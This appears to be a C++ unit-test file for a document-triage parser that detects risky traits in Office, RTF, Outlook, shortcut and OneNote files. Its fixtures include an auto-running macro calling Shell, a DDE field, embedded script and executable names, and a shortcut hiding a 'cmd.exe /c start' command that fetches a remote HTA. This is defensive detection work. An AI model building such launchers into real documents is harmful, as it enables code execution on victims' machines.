#include "files/documents.h"

#include <gtest/gtest.h>

#include <chrono>
#include <map>

#include "files/office.h"
#include "files/types.h"
#include "files/vba.h"
#include "made_archive.h"
#include "made_compound.h"

namespace mekiki::files {
namespace {

using namespace std::string_literals;

Opened opened(const std::string& bytes) {
  const Type* type = type_of_bytes(bytes);
  Budget budget;
  return open_document(type == nullptr ? "" : type->id, bytes, budget);
}

std::string little(std::uint64_t value, int bytes) {
  std::string out;
  for (int i = 0; i < bytes; ++i, value >>= 8) out += static_cast<char>(value);  // more than eight: padded
  return out;
}

// Letters only, no copies (MS-OVBA section 2.4.1).
std::string compressed(const std::string& source) {
  std::string body;
  for (std::size_t at = 0; at < source.size(); at += 8) body += '\0' + source.substr(at, 8);
  return '\x01' + little(0xB000U | (body.size() - 1), 2) + body;
}

std::string module(const std::string& code) { return "cache" + compressed("Attribute VB_Name = \"A\"\r\n" + code); }

std::string word(const std::string& code) {
  return MadeCompound::of({{u"WordDocument", "\xEC\xA5" + std::string(50, '\0')},
                           {u"Macros", "", true},
                           {u"VBA", "", true, 1},
                           {u"_VBA_PROJECT", std::string(40, 'x'), false, 2},
                           {u"ThisDocument", module(code), false, 2}});
}

// The example of MS-OVBA section 3.2.
TEST(Vba, DecompressesCopies) {
  // "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
  const std::string third =
      "\x01\x2F\xB0\x00\x23\x61\x61\x61\x62\x63\x64\x65\x82\x66\x00\x70\x61\x67\x68\x69\x6A\x01\x38\x08\x61\x6B\x6C\x00"
      "\x30\x6D\x6E\x6F\x70\x06\x71\x02\x70\x04\x10\x72\x73\x74\x75\x76\x10\x77\x78\x79\x7A\x00\x3C"s;
  EXPECT_EQ(decompress_vba(third, 1000), "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa");
}

TEST(Office, SaysWhatMacrosDo) {
  using Traits = std::set<Trait>;
  EXPECT_EQ(opened(word("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub")).traits,
            (Traits{Trait::macro, Trait::macro_runs_itself, Trait::macro_starts}));
  EXPECT_EQ(opened(word("Sub Total()\r\nEnd Sub")).traits, Traits{Trait::macro});
  EXPECT_TRUE(opened(word("")).traits.empty());
  // A name that only contains the word.
  EXPECT_FALSE(opened(word("Sub NoAutoOpener()\r\nEnd Sub")).traits.contains(Trait::macro_runs_itself));
}

TEST(Office, SeesMacroSheetsAndLocks) {
  const auto sheet = [](int kind) { return little(0x85, 2) + little(8, 2) + little(0, 4) + '\0' + char(kind) + "\1A"; };
  const std::string auto_open = little(0x18, 2) + little(16, 2) + little(0x20, 2) + std::string(13, '\0') + '\x01';
  EXPECT_TRUE(opened(MadeCompound::of({{u"Workbook", sheet(0)}})).traits.empty());
  EXPECT_EQ(opened(MadeCompound::of({{u"Workbook", sheet(1) + auto_open}})).traits,
            (std::set<Trait>{Trait::macro_sheet, Trait::macro_runs_itself}));
  EXPECT_TRUE(opened(MadeCompound::of({{u"EncryptedPackage", "x"}})).traits.contains(Trait::encrypted));
}

std::string package(const Contents& parts) {
  Contents all = {{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", "<w:document/>"}};
  all.insert(all.end(), parts.begin(), parts.end());
  return made_archive({archive_write_set_format_zip}, all);
}

TEST(Office, FollowsRelationshipsOutOfThePackage) {
  const auto relation = [](const std::string& type, const std::string& target) {
    return package({{"word/_rels/document.xml.rels", "<Relationships><Relationship Id='a' Type='http://x/" + type +
                                                         "' Target='" + target + "' TargetMode='External'/>"}});
  };
  const Opened linked = opened(relation("hyperlink", "https://example.com/?a=1&amp;b=2"));
  EXPECT_EQ(linked.addresses, std::vector<std::string>{"https://example.com/?a=1&b=2"});
  EXPECT_TRUE(linked.traits.empty());
  EXPECT_TRUE(opened(relation("attachedTemplate", "http://example.com/t")).traits.contains(Trait::remote_template));
  EXPECT_FALSE(opened(relation("attachedTemplate", "file:///C:/t.dotx")).traits.contains(Trait::remote_template));
}

TEST(Office, SeesFieldsThatStartPrograms) {
  const std::string split = "<w:instrText>DDE</w:instrText><w:t>x</w:t><w:instrText xml:space='p'>AUTO c</w:instrText>";
  EXPECT_TRUE(opened(made_archive({archive_write_set_format_zip},
                                  {{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", split}}))
                  .traits.contains(Trait::dde));
  EXPECT_TRUE(opened(package({{"word/vbaProject.bin", word("Sub A()\r\nEnd Sub")}})).traits.contains(Trait::macro));
}

std::string native(const std::string& name, const std::string& content) {
  return little(2, 2) + name + '\0' + "C:\\x\\" + name + '\0' + little(3, 4) + little(3, 4) + "a\\b" +
         little(content.size(), 4) + content;
}

TEST(Office, GivesThePackedFiles) {
  const std::string object = native("run.js", "code");
  const Opened word = opened(MadeCompound::of({{u"WordDocument", "x"}, {u"\x01Ole10Native", little(9, 4) + object}}));
  ASSERT_EQ(word.files.size(), 1U);
  EXPECT_EQ(word.files[0].name, "run.js");
  EXPECT_EQ(word.files[0].content, "code");

  std::string hex;
  for (const char c : little(0x501, 4) + little(2, 4) + little(8, 4) + "Package\0"s + little(0, 8) +
                          little(object.size(), 4) + object) {
    constexpr std::string_view digits = "0123456789abcdef";
    hex += digits[static_cast<unsigned char>(c) >> 4U];
    hex += "{\\*\\x 12}\r\n";
    hex += digits[static_cast<unsigned char>(c) & 15U];
  }
  const Opened rich = opened("{\\rtf1{\\object{\\*\\objdata " + hex + "}}}");
  ASSERT_EQ(rich.files.size(), 1U);
  EXPECT_EQ(rich.files[0].content, "code");
}

TEST(Mail, GivesTheAttachmentsOfMessages) {
  const Opened found = opened(MadeCompound::of({{u"__properties_version1.0", "x"},
                                                {u"__attach_version1.0_#00000000", "", true},
                                                {u"__substg1.0_37010102", "first", false, 1},
                                                {u"__substg1.0_3707001F", "a\0.\0t\0x\0t\0"s, false, 1},
                                                {u"__attach_version1.0_#00000001", "", true},
                                                {u"__substg1.0_3704001E", "b.txt", false, 4},
                                                {u"__substg1.0_37010102", "second", false, 4}}));
  ASSERT_EQ(found.files.size(), 2U);
  std::map<std::string, std::string> by_name;
  for (const Embedded& file : found.files) by_name[file.name] = file.content;
  EXPECT_EQ(by_name, (std::map<std::string, std::string>{{"a.txt", "first"}, {"b.txt", "second"}}));
}

TEST(Mail, UnpacksWinmailDat) {
  const auto attribute = [](std::uint32_t id, const std::string& data) {
    return "\2"s + little(id, 4) + little(data.size(), 4) + data + "\0\0"s;
  };
  const std::string name =
      little(1, 4) + little(0x001E, 2) + little(0x3707, 2) + little(1, 4) + little(14, 4) + "long name.exe\0\0\0"s;
  const Opened found =
      opened(little(0x223E9F78, 4) + little(1, 2) + attribute(0x0002800C, "text\0"s) + attribute(0x00069002, "x") +
             attribute(0x00018010, "LONG.EXE\0"s) + attribute(0x0006800F, "MZ") + attribute(0x00069005, name));
  EXPECT_EQ(found.note, "text");
  ASSERT_EQ(found.files.size(), 1U);
  EXPECT_EQ(found.files[0].name, "long name.exe");
  EXPECT_EQ(found.files[0].content, "MZ");
}

TEST(Calendar, GivesOrganizerAndWords) {
  const Opened found = opened(
      "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"a: b\":MAILTO:who@exam\r\n ple.com\r\n"
      "DESCRIPTION:go to\\n https://example.com/\\, now\r\nEND:VEVENT\r\n");
  EXPECT_TRUE(found.invitation);
  EXPECT_EQ(found.organizer, "who@example.com");
  EXPECT_EQ(found.note, "go to\n https://example.com/, now\n");
}

TEST(Shortcuts, SayWhatTheyStart) {
  const std::string arguments = "/c" + std::string(300, ' ') + "start https://example.com/a.hta";
  std::string wide;
  for (const char c : arguments) wide += std::string{c, '\0'};
  const std::string link = "\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"s + little(0xA8, 4) +
                           std::string(52, '\0') + little(7, 2) + "c\0m\0d\0.\0e\0x\0e\0"s +
                           little(arguments.size(), 2) + wide;
  const Opened found = opened(link);
  EXPECT_EQ(found.command, "cmd.exe /c start https://example.com/a.hta");
  EXPECT_EQ(found.addresses, std::vector<std::string>{"https://example.com/a.hta"});
  EXPECT_EQ(opened("[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.js\r\n").addresses,
            std::vector<std::string>{"file://192.0.2.1/share/a.js"});
}

TEST(Notebooks, GiveTheirFiles) {
  const std::string page = "\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3"s + std::string(50, 'x') +
                           "\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC"s + little(4, 8) +
                           little(0, 12) + "code and more";
  const Opened found = opened(page);
  ASSERT_EQ(found.files.size(), 1U);
  EXPECT_EQ(found.files[0].content, "code");
}

TEST(Documents, DamageIsSurvivedInLinearTime) {
  const std::vector<std::string> wholes = {word("Sub AutoOpen()\r\nEnd Sub"),
                                           package({{"word/_rels/x.rels", "<Relationship TargetMode='External'"}}),
                                           "{\\rtf1{\\objdata 0105}{\\*\\template http://x}HYPERLINK \"",
                                           "[InternetShortcut]\nURL=http://x",
                                           "BEGIN:VCALENDAR\r\nORGANIZER;CN=\"",
                                           little(0x223E9F78, 4) + little(1, 2) + std::string(60, '\2')};
  unsigned state = 7;
  for (const std::string& whole : wholes) {
    for (std::size_t cut = 0; cut < whole.size(); cut += 1 + whole.size() / 100) opened(std::string(whole, 0, cut));
    for (int round = 0; round < 300; ++round) {
      std::string changed = whole;
      for (int i = 0; i < 6; ++i) {
        state = state * 1103515245U + 12345U;
        changed[(state >> 8U) % changed.size()] = static_cast<char>(state >> 3U);
      }
      opened(changed);
    }
  }
  for (const std::string& piece : {"\\objdata {"s, "HYPERLINK"s, "\\*\\template "s, "\\objdata 0\\x"s}) {
    const auto time_of = [&](std::size_t count) {
      std::string bytes = "{\\rtf1";
      for (std::size_t i = 0; i < count; ++i) bytes += piece;
      const auto start = std::chrono::steady_clock::now();
      opened(bytes);
      return std::chrono::steady_clock::now() - start;
    };
    EXPECT_LT(time_of(100'000), 60 * time_of(5'000) + std::chrono::milliseconds(50)) << piece;
  }
}

}  // namespace
}  // namespace mekiki::files
